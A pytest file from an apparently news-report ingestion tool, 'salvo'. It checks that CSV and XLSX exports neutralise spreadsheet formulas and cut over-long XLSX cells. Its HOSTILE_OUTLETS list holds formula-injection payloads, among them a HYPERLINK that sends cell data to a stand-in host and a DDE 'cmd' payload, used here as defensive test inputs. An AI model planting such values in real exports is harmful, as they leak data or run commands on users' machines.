"""Every export path neutralises spreadsheet formulas with the one shared function."""
from __future__ import annotations

import io
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

from salvo import security, ui
from salvo.__main__ import main
from salvo.ingest import ingest_text
from salvo.store import Store
from tests.store.conftest import FakeExtractor, record

HOSTILE_OUTLETS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "@SUM(1)",
                   "-2+3", "\tTAB=1", "\rCR=1"]


@pytest.mark.parametrize("cell", HOSTILE_OUTLETS)
def test_a_formula_cell_is_prefixed(cell):
    safe = security.neutralise_formulas(pd.DataFrame({"outlet": [cell], "killed": [-1]}))
    assert safe.loc[0, "outlet"] == "'" + cell
    assert safe.loc[0, "killed"] == -1  # numbers are figures, never formulas


def test_plain_cells_are_unchanged():
    table = pd.DataFrame({"outlet": ["Ukrainian Air Force", "", None], "n": [1, 2, 3]})
    assert security.neutralise_formulas(table).equals(table)


def test_the_data_page_uses_the_shared_function():
    table = pd.DataFrame({"outlet": ["=1+1"]})
    assert b"'=1+1" in ui.to_csv_bytes(table)
    assert ui.neutralise_formulas is security.neutralise_formulas


@pytest.fixture
def hostile_store(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'salvo.sqlite'}"
    store = Store(url)
    fake = FakeExtractor({"night": record(attack_date="2025-07-04", drones_launched=10, cities=["=KYIV()"])})
    for number, outlet in enumerate(HOSTILE_OUTLETS):
        ingest_text(store, f"Report {number} of the night", published=date(2025, 7, 4), outlet=outlet,
                    extractor=fake.as_extractor())
    store.close()
    return url


def _cells(frame: pd.DataFrame) -> list[str]:
    values = [str(v) for column in frame.columns for v in frame[column].dropna()]
    return values + list(map(str, frame.columns))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_cli_export_neutralises_formulas(hostile_store, tmp_path, fmt):
    output = tmp_path / f"out.{fmt}"
    assert main(["--database", hostile_store, "-q", "export", "--format", fmt, "-o", str(output)]) == 0
    frame = pd.read_csv(output, dtype=str) if fmt == "csv" else pd.read_excel(output, dtype=str)
    cells = _cells(frame)
    assert any("HYPERLINK" in cell for cell in cells)  # the hostile outlet is exported ...
    dangerous = [c for c in cells if c.startswith(security.FORMULA_PREFIXES)]
    assert dangerous == []  # ... but never as a formula


def test_an_xlsx_cell_is_cut_at_the_format_s_limit_and_says_so():
    long = "x" * 40_000
    table = pd.DataFrame({"conflicts": [long, "short"], "killed": [1, 2]})
    read = pd.read_excel(io.BytesIO(ui.to_xlsx_bytes(table)))
    assert len(read.loc[0, "conflicts"]) == security.XLSX_CELL_LIMIT
    assert read.loc[0, "conflicts"].endswith(security.XLSX_CUT_NOTE)
    assert read.loc[1, "conflicts"] == "short" and list(read["killed"]) == [1, 2]
    assert pd.read_csv(io.BytesIO(ui.to_csv_bytes(table))).loc[0, "conflicts"] == long  # CSV: whole


def test_an_xlsx_export_fits_its_cells(tmp_path):
    from salvo import table

    frame = table.rows_to_frame([{"attack_date": "2025-07-04", "cities": ["=" + "y" * 40_000],
                                  "source_type": "outlet"}])
    path = table.export_table(frame, "xlsx", tmp_path / "out.xlsx")
    cell = pd.read_excel(path).loc[0, "cities"]
    assert cell.startswith("'=") and len(cell) == security.XLSX_CELL_LIMIT
